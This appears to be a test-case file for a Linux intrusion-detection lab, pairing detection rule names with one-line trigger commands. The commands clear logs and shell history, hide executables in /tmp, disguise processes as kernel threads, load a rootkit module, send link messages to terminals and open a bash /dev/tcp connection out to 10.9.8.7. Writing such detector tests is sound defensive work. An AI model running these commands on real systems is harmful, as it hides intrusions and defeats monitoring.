## Log files cleared
: > /var/log/syslog
## Shell history cleared
cp /etc/hosts /root/.bash_history; rm -f /root/.bash_history
## Hidden executable
#also Executable run from a scratch folder
#setup stubs /tmp/.x
/tmp/.x
## Process that looks like a kernel thread
bash -c 'exec -a "[kworker/0:1]" /bin/true'
## Code put into another process
/opt/lab/access child attach poke
## 32-bit system call of a 64-bit program
/opt/lab/compat fork
## Image built by a server's command
#also Shell started by a network server
#setup stubs /usr/bin/docker
server 'docker build -t x /tmp/x'
## Program that wants no debugger
#also Executable run from a scratch folder
cp /usr/bin/python3 /tmp/x; /tmp/x -c 'import ctypes; ctypes.CDLL(None).ptrace(0, 0, 0, 0)'
## Shell that keeps no history
#also History forgotten by a command
HISTFILE=/dev/null bash -c true
## Shell history switched off
#also History forgotten by a command
printf 'unset HISTFILE\nexit\n' | script -qc 'bash -i' /dev/null
## Kernel hides something
#also Kernel module loaded from a file
#guest the action changes the running kernel
insmod /opt/lab/rootkit.ko; echo hide > /sys/module/rf_rootkit/parameters/deed; checked; echo none > /sys/module/rf_rootkit/parameters/deed; rmmod rf_rootkit
## History led to the null device
ln -sf /dev/null /root/.bash_history
## History forgotten by a command
env HISTFILE=/dev/null true
## Message with a link or command sent to all terminals
#setup stubs /usr/bin/wall
wall 'Open http://10.9.8.7/'
## Notice with a link shown on a desktop
#setup stubs /usr/bin/notify-send
notify-send Update 'Open http://10.9.8.7/'
## Mail sent by a server's command
#also Reverse shell by bash's own network
#also Shell of a server connects out
#also Shell started by a network server
#setup listener 25
server 'bash -c ": > /dev/tcp/10.9.8.7/25"'
## Mail with a chosen sender sent by a tool
#setup stubs /usr/bin/swaks
swaks --to b@example.com --from a@example.com
